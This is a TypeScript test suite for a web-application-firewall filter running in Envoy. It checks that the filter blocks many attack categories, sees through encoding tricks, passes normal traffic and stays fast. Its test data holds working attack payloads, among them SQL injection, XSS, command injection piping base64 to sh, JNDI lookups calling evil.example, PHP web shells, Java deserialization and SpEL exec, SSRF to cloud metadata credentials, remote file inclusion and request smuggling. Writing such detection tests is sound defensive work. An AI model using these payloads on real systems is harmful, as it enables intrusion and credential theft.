// Attack detection inside the filter, on a real Envoy: every category, every normalisation trick, the
// places it looks, linear time on pathological input, and monitor mode.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { CaptureStack, FAST_REPORTS } from "../helpers/stack.ts";

let stack: CaptureStack;

before(async () => {
  stack = await CaptureStack.start({
    pluginConfig: {
      ...FAST_REPORTS,
      allowedContentTypes: ["json", "x-www-form-urlencoded", "grpc", "xml"],
      enforcement: { refreshInterval: 0, holdHeadersForBody: true },
      policy: {
        detection: { action: "block", headers: ["user-agent", "referer", "x-forwarded-host"] },
        rules: [{ id: "watch-only", action: "monitor", match: { path: { prefix: "/monitor-only" } } }],
      },
    },
  });
});
after(async () => {
  await stack?.stop();
});

interface Probe {
  path: string;
  method?: string;
  /** An array sends the header once per element. */
  headers?: Record<string, string | string[]>;
  body?: string;
}

async function expectDetected(probe: Probe, category: string, location?: string | RegExp): Promise<void> {
  const r = await stack.sendHttp(probe.path, {
    method: probe.method ?? (probe.body ? "POST" : "GET"),
    headers: probe.headers,
    body: probe.body,
  });
  assert.equal(r.status, 403, `expected ${category} in ${JSON.stringify(probe)} to be blocked`);
  assert.equal(r.body, "Access Forbidden", "nothing about the rule is revealed");
  // holdHeadersForBody: even a request blocked on its body never starts upstream.
  assert.equal(stack.upstream.started.get(r.testId), undefined, "a blocked request never reaches the upstream");
  const c = await stack.captureOf(r.testId);
  assert.equal(c.attributes["gatewarden.verdict.category"], category, JSON.stringify(c.attributes));
  assert.equal(c.attributes["gatewarden.verdict.action"], "block");
  assert.match(String(c.attributes["gatewarden.verdict.rule"]), new RegExp(`^${category}\\.`));
  const snippet = String(c.attributes["gatewarden.verdict.snippet"]);
  assert.ok(snippet.length > 0 && snippet.length <= 64, `snippet "${snippet}"`);
  if (location !== undefined) {
    if (typeof location === "string") assert.equal(c.attributes["gatewarden.verdict.location"], location);
    else assert.match(String(c.attributes["gatewarden.verdict.location"]), location);
  }
}

async function expectClean(probe: Probe): Promise<void> {
  const r = await stack.sendHttp(probe.path, {
    method: probe.method ?? (probe.body ? "POST" : "GET"),
    headers: probe.headers,
    body: probe.body,
  });
  assert.equal(r.status, 200, `expected ${JSON.stringify(probe)} to pass`);
}

const json = { "content-type": "application/json" };
const form = { "content-type": "application/x-www-form-urlencoded" };

test("each category is detected where attackers put it", async () => {
  await expectDetected({ path: "/items?id=1%27%20OR%20%271%27%3D%271" }, "sqli", "query:id");
  await expectDetected(
    { path: "/comments", headers: json, body: JSON.stringify({ post: 3, text: "<script>alert(document.cookie)</script>" }) },
    "xss",
    "body.json:$.text",
  );
  await expectDetected({ path: "/download?file=..%2F..%2F..%2Fetc%2Fpasswd" }, "traversal", "query:file");
  await expectDetected({ path: "/ping", headers: form, body: "host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd&count=1" }, "cmdi", "body.form:host");
  await expectDetected({ path: "/", headers: { "user-agent": "${jndi:ldap://evil.example/a}" } }, "jndi", "header:user-agent");
  await expectDetected(
    { path: "/", headers: { cookie: "theme=dark; session=' UNION SELECT password FROM users--" } },
    "sqli",
    "cookie:session",
  );
  await expectDetected({ path: "/", headers: { "x-forwarded-host": "<svg onload=alert(1)>" } }, "xss", "header:x-forwarded-host");
  await expectDetected({ path: "/search?%3Cscript%3Ealert(1)%3C%2Fscript%3E=1" }, "xss", "query-name");
  await expectDetected(
    { path: "/", headers: { "user-agent": "sqlmap/1.7.4#stable (https://sqlmap.org)" } },
    "scanner",
    "header:user-agent",
  );
});

test("encodings do not evade detection", async () => {
  // Double URL encoding.
  await expectDetected({ path: "/download?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd" }, "traversal");
  // '+' as space, case games and SQL comments instead of spaces.
  await expectDetected({ path: "/items?id=1+UnIoN/**/SeLeCt+username,password+FrOm+users" }, "sqli");
  // %u escapes.
  await expectDetected({ path: "/q?s=%u003Cscript%u003Ealert(1)%u003C/script%u003E" }, "xss");
  // \u escapes inside JSON.
  await expectDetected({ path: "/comments", headers: json, body: '{"text":"\\u003cimg src=x onerror=alert(1)\\u003e"}' }, "xss");
  // HTML entities.
  await expectDetected({ path: "/q?s=%26lt%3Bscript%26gt%3Balert(1)%26lt%3B%2Fscript%26gt%3B" }, "xss");
  await expectDetected({ path: "/q?s=%26%2360%3Bscript%26%2362%3Balert(1)%26%2360%3B%2Fscript%26%2362%3B" }, "xss");
  // Null bytes.
  await expectDetected({ path: "/download?file=..%2F..%2Fetc%2Fpasswd%00.png" }, "traversal");
  await expectDetected({ path: "/q?s=%3Cscr%00ipt%3Ealert(1)%3C%2Fscript%3E" }, "xss");
  // Whitespace tricks: tabs, newlines, vertical tabs between SQL keywords.
  await expectDetected({ path: "/items?id=1%09OR%0A1%3D1%0B--" }, "sqli");
  // Path tricks: ./, // and %2e%2e.
  await expectDetected({ path: "/static/.%2e/.%2e/.%2e//etc/./passwd" }, "traversal", "path");
  await expectDetected({ path: "/static/%2e%2e/%2e%2e/%2e%2e/etc/shadow" }, "traversal", "path");
});

test("ordinary API traffic passes", async () => {
  await expectClean({ path: "/api/v1/orders?status=open&page=2&sort=-created_at" });
  await expectClean({
    path: "/api/v1/orders",
    headers: json,
    body: JSON.stringify({ sku: "A-1", qty: 2, note: "Leave it at the door, please; ring twice." }),
  });
  await expectClean({ path: "/login", headers: form, body: "user=ann%40example.com&remember=on" });
  await expectClean({ path: "/search?q=select+a+good+union+rep+from+the+list" });
  await expectClean({ path: "/docs/guide/./intro.html" });
  await expectClean({
    path: "/",
    headers: { "user-agent": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36" },
  });
  for (const agent of [
    "curl/8.4.0",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "kube-probe/1.29",
    "Prometheus/2.51.0",
    "ELB-HealthChecker/2.0",
  ]) {
    await expectClean({ path: "/healthz", headers: { "user-agent": agent } });
  }
});

test("XML and SOAP bodies: their values are inspected, not their markup", async () => {
  const soap11 = { "content-type": "text/xml; charset=utf-8", soapaction: '"urn:example:orders#SubmitOrder"' };
  const envelope = (body: string) =>
    '<?xml version="1.0" encoding="utf-8"?>\n' +
    '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:m="urn:example:orders">\n' +
    "  <!-- sent by the order service -->\n" +
    `  <soap:Body>\n    <m:SubmitOrder>\n${body}\n    </m:SubmitOrder>\n  </soap:Body>\n</soap:Envelope>\n`;
  await expectClean({
    path: "/soap/orders",
    headers: soap11,
    body: envelope(
      '      <m:customer xsi:type="m:Customer"><m:name>O\'Brien &amp; Sons</m:name><m:site href="https://obrien.example.com/"/></m:customer>\n' +
        '      <m:item sku="A-100" qty="2"/>\n      <m:note><![CDATA[Ring twice; leave it at the door.]]></m:note>',
    ),
  });
  await expectClean({
    path: "/soap/stock",
    headers: { "content-type": 'application/soap+xml; charset=utf-8; action="urn:GetPrice"' },
    body: '<env:Envelope xmlns:env="http://www.w3.org/2003/05/soap-envelope"><env:Body><m:GetPrice xmlns:m="urn:stock"><m:Symbol>IBM</m:Symbol></m:GetPrice></env:Body></env:Envelope>',
  });
  await expectDetected(
    { path: "/soap/orders", headers: soap11, body: envelope("      <m:id>1' OR '1'='1</m:id>") },
    "sqli",
    "body.xml:/soap:Envelope/soap:Body/m:SubmitOrder/m:id",
  );
  await expectDetected(
    { path: "/soap/orders", headers: soap11, body: envelope("      <m:note><![CDATA[<script>alert(1)</script>]]></m:note>") },
    "xss",
    "body.xml:/soap:Envelope/soap:Body/m:SubmitOrder/m:note",
  );
  await expectDetected(
    {
      path: "/import",
      headers: { "content-type": "application/xml" },
      body: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
    },
    "xxe",
    "body",
  );
});

/** Sends 128 KiB of each pattern in a JSON value: answered (passed or blocked) within 2 s each. */
async function expectAnsweredPromptly(patterns: string[]): Promise<void> {
  for (const pattern of patterns) {
    const value = pattern.repeat(Math.ceil((128 * 1024) / pattern.length)).slice(0, 128 * 1024);
    const started = Date.now();
    const r = await stack.sendHttp("/pathological", { method: "POST", headers: json, body: JSON.stringify({ v: value }) });
    const took = Date.now() - started;
    assert.ok(r.status === 200 || r.status === 403, `status ${r.status}`);
    assert.ok(took < 2000, `128 KiB of ${JSON.stringify(pattern)} took ${took} ms`);
  }
}

test("pathological inputs are answered without stalling Envoy (linear-time matching)", async () => {
  await expectAnsweredPromptly(["'", "<", "(", "((((((((((", "${", "../", "%27", "\n"]);
  for (const pattern of ["<a>", "<a b='", "<!--", "<![CDATA[", "&lt;"]) {
    const value = "<r>" + pattern.repeat(Math.ceil((128 * 1024) / pattern.length)).slice(0, 128 * 1024);
    const started = Date.now();
    const r = await stack.sendHttp("/pathological", { method: "POST", headers: { "content-type": "application/xml" }, body: value });
    const took = Date.now() - started;
    assert.ok(r.status === 200 || r.status === 403, `status ${r.status}`);
    assert.ok(took < 2000, `128 KiB of XML ${JSON.stringify(pattern)} took ${took} ms`);
  }
  const started = Date.now();
  assert.equal((await stack.sendHttp("/after")).status, 200);
  assert.ok(Date.now() - started < 1000, "Envoy kept serving");
});

test("the newer families are detected where attackers put them", async () => {
  const q = encodeURIComponent;
  // php: query, form, JSON, cookie, path.
  await expectDetected({ path: "/index.php?page=" + q("php://filter/convert.base64-encode/resource=config.php") }, "php", "query:page");
  await expectDetected({ path: "/comment", headers: form, body: "text=" + q("<?php system($_GET['c']); ?>") }, "php", "body.form:text");
  await expectDetected(
    { path: "/api/import", headers: json, body: JSON.stringify({ data: 'O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}' }) },
    "php",
    "body.json:$.data",
  );
  await expectDetected({ path: "/", headers: { cookie: "cart=" + q('O:4:"Cart":1:{s:1:"a";i:1;}') } }, "php", "cookie:cart");
  await expectDetected({ path: "/render/" + q("<?php phpinfo(); ?>") + "/x" }, "php", "path");
  // java: cookie (serialized object), header, form name (Spring4Shell), query, JSON.
  await expectDetected(
    { path: "/", headers: { cookie: "rememberMe=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==" } },
    "java",
    "cookie:rememberMe",
  );
  await expectDetected(
    { path: "/", headers: { "x-forwarded-host": "%{(#_memberAccess['allowStaticMethodAccess']=true)}" } },
    "java",
    "header:x-forwarded-host",
  );
  await expectDetected(
    { path: "/register", headers: form, body: "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x&name=a" },
    "java",
    "body.form:class.module.classLoader.resources.context.parent.pipeline.first.pattern",
  );
  await expectDetected({ path: "/greet?name=" + q("#{T(java.lang.Runtime).getRuntime().exec('id')}") }, "java", "query:name");
  await expectDetected(
    { path: "/api/parse", headers: json, body: JSON.stringify({ "@type": "com.sun.rowset.JdbcRowSetImpl", dataSourceName: "x" }) },
    "java",
    "body.json:$.@type",
  );
  // ssrf: query, JSON, form, header, path.
  await expectDetected(
    { path: "/fetch?url=" + q("http://169.254.169.254/latest/meta-data/iam/security-credentials/") },
    "ssrf",
    "query:url",
  );
  await expectDetected(
    { path: "/api/webhooks", headers: json, body: JSON.stringify({ target: "http://0x7f000001:6379/" }) },
    "ssrf",
    "body.json:$.target",
  );
  await expectDetected({ path: "/preview", headers: form, body: "link=" + q("http://[::ffff:127.0.0.1]/admin") }, "ssrf", "body.form:link");
  await expectDetected(
    { path: "/", headers: { "x-forwarded-host": "http://metadata.google.internal/computeMetadata/v1/" } },
    "ssrf",
    "header:x-forwarded-host",
  );
  await expectDetected({ path: "/proxy/" + q("http://2130706433/") }, "ssrf", "path");
  await expectDetected({ path: "/fetch?u=" + q("gopher://127.0.0.1:6379/_SET") }, "ssrf", "query:u");
  // rfi: query, form, cookie.
  await expectDetected({ path: "/index.php?file=" + q("http://evil.example/shell.txt?") }, "rfi", "query:file");
  await expectDetected({ path: "/load", headers: form, body: "tpl=" + q("ftp://evil.example/pub/x.php") }, "rfi", "body.form:tpl");
  await expectDetected({ path: "/", headers: { cookie: "skin=" + q("\\\\attacker\\share\\shell.php") } }, "rfi", "cookie:skin");
  // rfi by the parameter's name: any web URL as a page or template to include (query, form).
  await expectDetected({ path: "/index.php?page=" + q("http://evil.example/x") }, "rfi", "query:page");
  await expectDetected({ path: "/render", headers: form, body: "template=" + q("https://evil.example/t") }, "rfi", "body.form:template");
  // protopollution: query name, JSON key, form name, path segment.
  await expectDetected({ path: "/api/settings?__proto__[isAdmin]=true" }, "protopollution", "query-name");
  await expectDetected(
    { path: "/api/merge", headers: json, body: '{"user":{"__proto__":{"role":"admin"}}}' },
    "protopollution",
    "body.json:$.user.__proto__",
  );
  await expectDetected(
    { path: "/api/profile", headers: form, body: "constructor[prototype][admin]=1" },
    "protopollution",
    "body.form:constructor[prototype][admin]",
  );
  await expectDetected({ path: "/api/__proto__/x" }, "protopollution", "path");
  await expectDetected({ path: "/api/set/constructor/prototype/isAdmin" }, "protopollution", "path");
  // sessionfixation: query name, form value.
  await expectDetected({ path: "/login?PHPSESSID=attacker0123" }, "sessionfixation", "query-name");
  await expectDetected(
    { path: "/contact", headers: form, body: "msg=" + q("Set-Cookie: JSESSIONID=fixated") },
    "sessionfixation",
    "body.form:msg",
  );
  // protocol: a request smuggled in a form value; a header repeated past the bound.
  await expectDetected(
    { path: "/submit", headers: form, body: "data=" + q("0\r\n\r\nGET /admin HTTP/1.1\r\nHost: internal\r\n\r\n") },
    "protocol",
    "body.form:data",
  );
  await expectDetected({ path: "/", headers: { "x-dup": Array.from({ length: 20 }, (_, i) => String(i)) } }, "protocol", "header:x-dup");
  // Obfuscated command execution and nested JNDI lookups in a cookie and a JSON field.
  await expectDetected({ path: "/ping?host=" + q("127.0.0.1;c'a't${IFS}/etc/passwd") }, "cmdi", "query:host");
  await expectDetected(
    { path: "/ping", headers: form, body: "host=" + q("| echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh") },
    "cmdi",
    "body.form:host",
  );
  await expectDetected(
    { path: "/", headers: { cookie: "lang=" + q("${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}") } },
    "jndi",
    "cookie:lang",
  );
  await expectDetected(
    { path: "/api/log", headers: json, body: JSON.stringify({ msg: "${${lower:j}ndi:${lower:l}dap://x/a}" }) },
    "jndi",
    "body.json:$.msg",
  );
});

test("Referer: Envoy removes one that is no URL before any filter; an attack inside a URL is blocked", async () => {
  // Envoy's header sanitizing drops an invalid Referer (an OGNL block is not a URL): neither the filter
  // nor the upstream ever sees it, so there is nothing to block.
  const r = await stack.sendHttp("/echo", { headers: { referer: "%{(#_memberAccess['allowStaticMethodAccess']=true)}" } });
  assert.equal(r.status, 200);
  assert.equal(JSON.parse(r.body).headers.referer, undefined, "the upstream got no Referer");
  // The same expression escaped inside a valid URL reaches the filter, which decodes and blocks it.
  await expectDetected(
    {
      path: "/",
      headers: { referer: "https://x.example/list?redirect=%25%7B(%23_memberAccess%5B'allowStaticMethodAccess'%5D%3Dtrue)%7D" },
    },
    "java",
    "header:referer",
  );
});

test("benign shapes that look like attacks pass", async () => {
  await expectClean({ path: "/collect?us_privacy=1---&gdpr=0&ccpa=1YN-" });
  await expectClean({ path: "/?icid=mmb%7Csc%7Cc1%7C080122%7Cspring_sale%7C5&utm_source=newsletter&utm_campaign=spring%20%7C%20sale" });
  await expectClean({
    path:
      "/track?dt=" + encodeURIComponent("flights & more | Skyline Travel") + "&dl=" + encodeURIComponent("https://www.example.com/deals"),
  });
  await expectClean({
    path: "/landing?redirect=" + encodeURIComponent("https://app.example.com/account?tab=orders&&ref=nav") + "&gclid=Cj0KCQjw_abc-123",
  });
  await expectClean({
    path: "/api/v1/snippets",
    headers: json,
    body: JSON.stringify({
      snippet: "class Foo extends Bar { constructor() { super(); } }",
      title: "I'd like to select a union rep from the table",
    }),
  });
  await expectClean({
    path: "/profile",
    headers: form,
    body: "avatar=" + encodeURIComponent("data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAE/AAAA") + "&email=o%27neil%40example.com",
  });
  await expectClean({ path: "/search?q=constructor+prototype+javascript&session=2" });
  await expectClean({
    path: "/api/v1/orders",
    headers: json,
    body: JSON.stringify({ sessionId: "abc", callback: "https://shop.example.com/hooks/order", note: "<p>Ring <b>twice</b></p>" }),
  });
});

test("new detectors stay linear on pathological input", async () => {
  await expectAnsweredPromptly([
    "http://",
    "__proto__",
    "class.",
    "\\\\a\\",
    "<?",
    "%{",
    "constructor.",
    "0x7f.",
    "\r\nGET / HTTP/1.1\r\n",
    "${IFS:0:",
  ]);
});

test("blocked attacks are counted per category", async () => {
  const stats = await stack.stats();
  for (const category of [
    "sqli",
    "xss",
    "traversal",
    "cmdi",
    "jndi",
    "php",
    "java",
    "ssrf",
    "rfi",
    "protopollution",
    "sessionfixation",
    "protocol",
  ]) {
    assert.ok((stats.get(`gatewarden_blocked_${category}_total`) ?? 0) >= 1, `gatewarden_blocked_${category}_total`);
  }
});
